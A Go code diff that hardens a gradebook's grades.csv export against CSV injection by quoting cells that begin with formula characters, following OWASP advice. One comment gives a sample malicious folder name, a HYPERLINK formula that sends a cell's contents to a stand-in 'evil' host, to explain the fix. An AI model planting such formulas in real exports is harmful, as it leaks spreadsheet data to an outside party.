@@ -48,9 +48,11 @@ func Percent(score, max int) string {
 
 // GradesCSV is grades.csv: one row per student with a column per
 // exercise's score, the total, the maximum, the percentage and the note.
+// Every cell goes through SpreadsheetCell: a student names their own
+// folder, and the note quotes it.
 func GradesCSV(b Gradebook) []byte {
 	var buf bytes.Buffer
-	w := csv.NewWriter(&buf)
+	w := cellWriter{csv.NewWriter(&buf)}
 	header := []string{"student"}
 	for _, s := range b.Exercises {
 		header = append(header, s.Name)
@@ -69,6 +71,32 @@ func GradesCSV(b Gradebook) []byte {
 	}
 	w.Flush()
 	return buf.Bytes()
+}
+
+// cellWriter writes CSV records whose every cell is a SpreadsheetCell.
+type cellWriter struct{ *csv.Writer }
+
+func (w cellWriter) Write(record []string) error {
+	cells := make([]string, len(record))
+	for i, c := range record {
+		cells[i] = SpreadsheetCell(c)
+	}
+	return w.Writer.Write(cells)
+}
+
+// SpreadsheetCell is s as a CSV cell that a spreadsheet shows as the
+// text it is, never runs as a formula, per OWASP's advice on CSV
+// injection (https://owasp.org/www-community/attacks/CSV_Injection): a
+// cell that starts with = + - @, a tab, a carriage return or a line feed
+// gets a leading single quote (the NUL that ASVS 1.2.10 adds too). A
+// student folder named =HYPERLINK("http://evil/?"&A1) is a live formula
+// in grades.csv otherwise. The quoting of commas and double quotes is
+// encoding/csv's (RFC 4180).
+func SpreadsheetCell(s string) string {
+	if s != "" && strings.ContainsRune("=+-@\t\r\n\x00", rune(s[0])) {
+		return "'" + s
+	}
+	return s
 }
 
 // Summary is the class at a glance, per exercise.
